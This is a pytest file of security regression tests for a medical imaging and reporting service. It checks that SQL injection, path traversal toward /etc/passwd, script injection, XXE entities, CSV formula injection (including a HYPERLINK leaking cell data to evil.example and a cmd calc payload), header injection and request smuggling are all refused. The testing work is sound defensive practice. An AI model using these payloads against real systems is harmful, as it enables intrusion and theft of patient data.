"""Attacks of kinds that have no room of their own: the table in docs/hardening.md names them all."""

import asyncio
import contextlib
import csv
import http.client
import json
import re
import socket
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi import HTTPException
from starlette.types import Message

from overread.errors import InputError, PeerError
from service.deidentification.export import copy_cases
from service.deidentification.pseudonyms import Pseudonyms
from service.dicomweb.stow import make_stow_app
from service.importing.tables import TableOptions, read_table
from service.intake.reports import IncomingReport, receive_report
from service.narrative.cda import text_of_cda
from service.pacs.archive import StudyQuery
from service.security.roles import Role
from service.store.database import Store
from service.store.people import bind_person
from service.store.worklist import count_cases
from service.web.body import bounded
from service.web.csrf import FORM_BYTES_MAX
from service.web.guard import access_for
from tests.service.fhir import documents
from tests.service.material import CLEAR, NOW, dicom_bytes, send_image, triaged_case
from tests.service.pacs.test_dicomweb import Answer, Server
from tests.service.security.people import BY, add, desk_on, sign_in, token_on
from tests.service.web.listening import listening, opener

SCRIPT = "\"'><script>alert(1)</script>"  # fits into 64 characters, the longest LO
QUOTED = "' OR '1'='1' --"
ROLES = (Role.SECOND_READER, Role.COORDINATOR, Role.QUALITY, Role.ADMINISTRATOR)


@contextlib.contextmanager
def dicomweb(store: Store) -> Iterator[httpx.Client]:
    app = make_stow_app(opener(store), access_for("127.0.0.1", None))
    with listening(app) as url, httpx.Client(base_url=url, timeout=60) as client:
        yield client


@contextlib.contextmanager
def trap() -> Iterator[tuple[str, list[object]]]:
    """An address that nobody may be made to call, and who called all the same."""
    listener = socket.create_server(("127.0.0.1", 0))
    calls: list[object] = []

    def watch() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, peer = listener.accept()
                calls.append(peer)
                connection.close()

    thread = threading.Thread(target=watch)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", calls
    finally:
        # What had called by now is in the queue of the socket before this does.
        socket.create_connection(listener.getsockname()).close()
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join()


ROOT = Path(__file__).parents[3]


def test_every_test_that_the_table_of_attacks_names_is_there() -> None:
    named = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", (ROOT / "docs" / "hardening.md").read_text())

    assert len(named) >= 14
    for path, name in named:
        assert f"def {name}(" in (ROOT / path).read_text(), (path, name)


# --- injection


@pytest.mark.parametrize(
    "word", [QUOTED, "'; DROP TABLE cases; --", "%' UNION SELECT 1 --", "\\", '"', "*'*"]
)
def test_no_search_word_reaches_the_language_of_the_database(store: Store, word: str) -> None:
    triaged_case(store)
    counted = count_cases(store)
    with dicomweb(store) as archive:
        for name in ("PatientID", "AccessionNumber", "StudyInstanceUID", "ModalitiesInStudy", "StudyDate"):
            answer = archive.get("/studies", params={name: word})
            assert answer.status_code in {204, 400}, (name, answer.text)
        assert archive.get("/studies", params={"PatientID": "P1"}).status_code == 200
    with desk_on(store) as desk, desk.browser(Accept="*/*") as browser:
        listed = browser.get("/api/v1/worklist", params={"subspecialty": word}).json()
        assert listed["cases"] == [] or listed["cases"][0]["subspecialty"] is None
        for address, params in (
            ("/", {"for": word, "show": word, "share": word, "part": word}),
            ("/api/v1/worklist", {"after": word}),
            ("/api/v1/quarantine", {"reason": word}),
            ("/quarantine", {"reason": word, "state": word, "since": word}),
        ):
            assert browser.get(address, params=params).status_code in {200, 422}, address
    report = IncomingReport(content=CLEAR, accession_number=word, patient_id=word, source=word)
    with contextlib.suppress(InputError):
        receive_report(store, report, now=NOW)
    assert sum(count_cases(store).values()) >= sum(counted.values())


# --- traversal by UID


@pytest.mark.parametrize(
    "uid", ["..", "../..", "..%2f..%2fdatabase", "%2e%2e", "/etc/passwd", "1.2.3/../..", "2.25.1\\.."]
)
def test_a_uid_that_is_a_path_leads_to_no_file(sqlite_store: Store, uid: str) -> None:
    triaged_case(sqlite_store)
    image = "/studies/2.25.1/series/2.25.1.1/instances/2.25.1.1.1"
    with dicomweb(sqlite_store) as archive, desk_on(sqlite_store) as desk:
        for url, address in (
            (str(archive.base_url), f"/studies/{uid}"),
            (str(archive.base_url), f"/studies/2.25.1/series/{uid}/instances/{uid}"),
            (str(archive.base_url), f"{image}/bulkdata/{uid}"),
            (str(archive.base_url), f"{image}/frames/{uid}"),
            (desk.url, f"/api/v1/instances/{uid}/rendered.png"),
            (desk.url, f"/api/v1/studies/{uid}/case"),
            (desk.url, f"/desk/static/{uid}"),
        ):
            status, content = asked_as_it_is(url, address)
            assert status in {400, 404, 422}, (address, status)
            assert b"SQLite format 3" not in content
            assert b"root:" not in content
    with pytest.raises(InputError):
        send_image(sqlite_store, dicom_bytes(SOPInstanceUID=uid))
    folder = sqlite_store.settings.data_folder
    assert all(path.resolve().is_relative_to(folder.resolve()) for path in folder.rglob("*"))


def asked_as_it_is(url: str, address: str) -> tuple[int, bytes]:
    """Ask for an address without making it tidy, as other clients do."""
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
    try:
        connection.request("GET", address)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


# --- scripts in what is displayed


class _Page(HTMLParser):
    """Gathers what a page would run."""

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and not (given.get("src") or "").startswith("/desk/static/"):
            self.runs.append(str(self.get_starttag_text()))
        if tag in {"iframe", "object", "embed", "base"} or any(name.startswith("on") for name in given):
            self.runs.append(str(self.get_starttag_text()))
        if any(
            (given.get(name) or "").lower().startswith("javascript:") for name in ("href", "src", "action")
        ):
            self.runs.append(str(self.get_starttag_text()))


def what_runs(page: httpx.Response) -> list[str]:
    parser = _Page()
    parser.feed(page.text)
    return parser.runs


def fill_with_scripts(store: Store) -> None:
    """Put a script into every text that a sender, a person or a message may choose, and a page may show."""
    named = {
        "PatientID": SCRIPT,
        "PatientName": SCRIPT,
        "AccessionNumber": SCRIPT[:16],
        "StudyDescription": SCRIPT,
        "SeriesDescription": SCRIPT,
        "BodyPartExamined": SCRIPT,
        "InstitutionName": SCRIPT,
        "Modality": SCRIPT[:16],
        "Manufacturer": SCRIPT,
    }
    send_image(store, dicom_bytes(study="2.25.9", **named))
    triaged_case(store, 1, report=f"There is a mass {SCRIPT} in the right upper lobe. {SCRIPT}", value=0)
    triaged_case(store, 2, report=f"No mass. {SCRIPT}")
    for content, accession in ((f"{SCRIPT}\0", SCRIPT), (f"Text {SCRIPT}", f"{SCRIPT} ")):
        report = IncomingReport(
            content=content,
            accession_number=accession,
            patient_id=SCRIPT,
            charset=SCRIPT,
            source=SCRIPT,
            site=SCRIPT,
        )
        with pytest.raises(InputError):
            receive_report(store, report, now=NOW)
    with pytest.raises(InputError):
        send_image(store, dicom_bytes(study="2.25.9", **(named | {"PatientID": "another"})))
    ada = add(store, "ada", *ROLES, display_name=SCRIPT)
    bind_person(store, ada.person_id, None, (), by=BY)
    bob = add(store, SCRIPT, Role.SECOND_READER, display_name=SCRIPT)
    bind_person(store, bob.person_id, {SCRIPT}, (), by=BY)


@pytest.mark.filterwarnings("ignore::UserWarning")
def test_no_field_that_a_page_displays_is_run(sqlite_store: Store) -> None:
    fill_with_scripts(sqlite_store)
    word = {"for": SCRIPT, "show": SCRIPT, "share": SCRIPT, "part": SCRIPT, "after": SCRIPT, "reason": SCRIPT}
    with desk_on(sqlite_store) as desk, desk.signed_in() as browser:
        token = {"csrf_token": token_on(browser.get("/account"))}
        for entry in (1, 2, 3):
            form = {**token, "because": SCRIPT, "name": SCRIPT}
            browser.post(f"/quarantine/{entry}/discard", data=form)
        pages = [browser.get(address, params=params) for address in _addresses() for params in ({}, word)]
        form = {**token, "because": SCRIPT, "sites": SCRIPT, "role": SCRIPT}
        pages += [browser.post(address, data=form) for address in _forms()]
        with desk.browser() as stranger:
            pages.append(stranger.get("/sign-in", params={"next": f"/?{SCRIPT}"}))
            pages.append(sign_in(stranger, SCRIPT, SCRIPT))
            pages.append(stranger.get("/sign-in/provider/callback", params={"error": SCRIPT}))
    shown = [page for page in pages if "script&gt;alert(1)" in page.text]
    assert len(shown) >= 10  # the script is there, as text
    for page in pages:
        assert SCRIPT not in page.text, page.url
        assert what_runs(page) == [], page.url
        policy = page.headers["content-security-policy"]
        assert re.search(r"(script|default)-src '(self|none)'", policy), page.url
        assert "unsafe-inline" not in policy


def _addresses() -> Iterator[str]:
    yield from ("/", "/account", "/people", "/quarantine", f"/{SCRIPT}", f"/cases/{SCRIPT}")
    for number in range(1, 5):
        yield f"/cases/{number}"
        yield f"/quarantine/{number}"
        yield f"/quarantine/{number}?reveal=true"


def _forms() -> Iterator[str]:
    yield from ("/people/1/binding", "/people/2/roles", "/account/password", "/quarantine/replay")
    yield from (
        f"/quarantine/{number}/{act}" for number in (1, 2, 3) for act in ("replay", "correct", "discard")
    )


# --- bodies that are too large, or do not come


def test_a_stranger_cannot_fill_the_memory_with_a_form(sqlite_store: Store) -> None:
    add(sqlite_store, "ada", *ROLES)
    much = b"name=ada&password=" + b"x" * FORM_BYTES_MAX
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    with desk_on(sqlite_store) as desk, desk.signed_in() as browser:
        for address in ("/sign-in", "/sign-in/provider/logout", "/people/1/binding", "/quarantine/1/discard"):
            answer = browser.post(address, content=much, headers=form)
            assert answer.status_code == 413, (address, answer.status_code)
        shown = browser.get("/session").json()["csrf_token"]
        for address in ("/api/v1/quarantine/1/discard", "/api/v1/cases/1/retry"):
            headers = {"X-CSRF-Token": shown, "Content-Type": "application/json"}
            answer = browser.post(address, content=much, headers=headers)
            assert answer.status_code in {404, 413}, (address, answer.status_code)
        assert browser.get("/session").status_code == 200


def test_a_body_that_does_not_come_or_is_too_large_is_given_up() -> None:
    async def silent() -> Message:
        await asyncio.Event().wait()
        raise AssertionError

    async def endless() -> Message:
        return {"type": "http.request", "body": b"x" * 100, "more_body": True}

    async def read() -> None:
        with pytest.raises(HTTPException) as late:
            await bounded(silent, bytes_max=10, seconds_max=0.01)()
        assert late.value.status_code == 408
        receive = bounded(endless, bytes_max=250, seconds_max=60)
        assert len([await receive(), await receive()]) == 2
        with pytest.raises(HTTPException) as large:
            await receive()
        assert large.value.status_code == 413

    asyncio.run(read())


# --- requests that the service is made to send


def test_an_address_in_what_is_sent_is_never_called(sqlite_store: Store) -> None:
    """Neither in an object, in metadata or in a report, nor by a PACS that sends elsewhere."""
    with trap() as (address, calls), dicomweb(sqlite_store) as archive:
        named = {"PixelDataProviderURL": f"{address}/pixels", "RetrieveURL": f"{address}/study"}
        send_image(sqlite_store, dicom_bytes(PixelData=None, **named))
        at = "/studies/2.25.1/series/2.25.1.1/instances/2.25.1.1.1"
        for way in ("", "/metadata", "/frames/1", "/rendered", "/pixeldata", "/bulkdata/00287FE0"):
            archive.get(f"{at}{way}")
        metadata = json.dumps([{"7FE00010": {"vr": "OW", "BulkDataURI": f"{address}/bulk"}}])
        archive.post("/studies", content=metadata, headers={"Content-Type": "application/dicom+json"})
        form = {"contentType": "application/pdf", "url": f"{address}/report.pdf"}
        by_url = documents.report(presentedForm=[form])
        with desk_on(sqlite_store) as desk, desk.browser(Accept="*/*") as browser:
            kind = {"Content-Type": "application/fhir+json"}
            refused = browser.post("/fhir/DiagnosticReport", json=by_url, headers=kind)
            assert refused.status_code in {400, 422}
            browser.get("/api/v1/instances/2.25.1.1.1/rendered.png")
        sent_on = Answer(status=302, headers={"Location": f"{address}/studies"})
        elsewhere = {"vr": "UR", "Value": [f"{address}/x"]}
        found = [{"0020000D": {"vr": "UI", "Value": ["2.25.7"]}, "00081190": elsewhere}]
        answers = [Answer(body=json.dumps(found).encode()), sent_on]
        with Server(answers=answers).running(sqlite_store) as pacs:
            pacs.find_studies(StudyQuery(study_instance_uid="2.25.7"))
            with pytest.raises(PeerError, match="302"):
                pacs.find_series("2.25.7")
    assert calls[:-1] == []  # the last one is the trap's own


# --- XML


CDA = (
    '<ClinicalDocument xmlns="urn:hl7-org:v3"><component><structuredBody><component><section><text>&e;</text>'
    "</section></component></structuredBody></component></ClinicalDocument>"
)


def test_entities_of_a_document_are_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the contents of a file")
    with trap() as (address, calls):
        for doctype in (
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>',
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/e">]>',
            f'<!DOCTYPE x SYSTEM "{address}/x.dtd">',
            '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY e "&a;&a;&a;&a;">]>',
            f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/p"> %p;]>',
        ):
            with pytest.raises(InputError) as refused:
                text_of_cda(f"{doctype}{CDA}".encode())
            assert "contents" not in str(refused.value)
    assert calls[:-1] == []


# --- formulas in tables


def test_no_cell_of_an_export_is_a_formula(sqlite_store: Store, tmp_path: Path) -> None:
    texts = ('=HYPERLINK("http://evil.example/"&A1)', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "'=1")
    numbers = [
        triaged_case(sqlite_store, number, report=f"{text} No mass.")
        for number, text in enumerate(texts, start=1)
    ]
    list(copy_cases(sqlite_store, numbers, tmp_path / "out", Pseudonyms(b"k" * 32), with_reports=True))

    with (tmp_path / "out" / "reports.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(texts)
    cells = [str(cell) for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # And an installation that takes the table in reads what was written.
    read = [row.text for row in read_table(tmp_path / "out" / "reports.csv", TableOptions())]
    starts = ("=HYPERLINK", "-2+3", "@SUM", "+1", "'=1")
    assert all(text.startswith(start) for text, start in zip(read, starts, strict=True))


# --- headers


@pytest.mark.parametrize(
    "word",
    [
        "/x\r\nSet-Cookie: a=b",
        "/x\nLocation: http://evil.example",
        "/%0d%0aSet-Cookie:%20a=b",
        "/x\u2028y",
    ],
)
def test_what_is_sent_makes_no_header_of_an_answer(sqlite_store: Store, word: str) -> None:
    add(sqlite_store, "ada", *ROLES)
    with desk_on(sqlite_store) as desk, desk.browser() as browser:
        answers = [
            sign_in(browser, "ada", next=word),
            browser.get("/sign-in", params={"next": word}),
            browser.get("/", params={"for": word}),
            browser.get("/cases/1", params={"share": word}),
        ]
    assert answers[0].status_code == 303
    for answer in answers:
        names = [name.lower() for name, _ in answer.headers.multi_items()]
        assert names.count("location") <= 1
        cookies = [value for name, value in answer.headers.multi_items() if name.lower() == "set-cookie"]
        assert all(cookie.startswith(("overread_session=", "overread_handshake=")) for cookie in cookies)
        assert urlsplit(answer.headers.get("location", "/")).netloc == ""
        assert not re.search(r"[\r\n]", "".join(answer.headers.values()))


@pytest.mark.parametrize(
    "raw",
    [
        b"X: a\r\nEvil : b",
        b"X: a\nEvil: b\x00",
        b"Host: 127.0.0.1\r\nHost: evil.example",
        b"Transfer-Encoding: chunked\r\nContent-Length: 4",
    ],
)
def test_headers_that_two_readers_read_differently_are_not_served(sqlite_store: Store, raw: bytes) -> None:
    """Request smuggling: nothing beyond the first request is answered."""
    with desk_on(sqlite_store) as desk:
        parts = urlsplit(desk.url)
        host = b"" if raw.startswith(b"Host") else f"Host: {parts.netloc}\r\n".encode()
        request = (
            b"POST /sign-in HTTP/1.1\r\n" + host + raw + b"\r\n\r\n0\r\n\r\nGET /people HTTP/1.1\r\n\r\n"
        )
        with socket.create_connection((parts.hostname, parts.port or 80), timeout=60) as connection:
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
            answer = b""
            while piece := connection.recv(65536):
                answer += piece
    statuses = re.findall(rb"HTTP/1\.1 (\d+)", answer)
    assert not [status for status in statuses if status.startswith(b"2")], answer[:200]
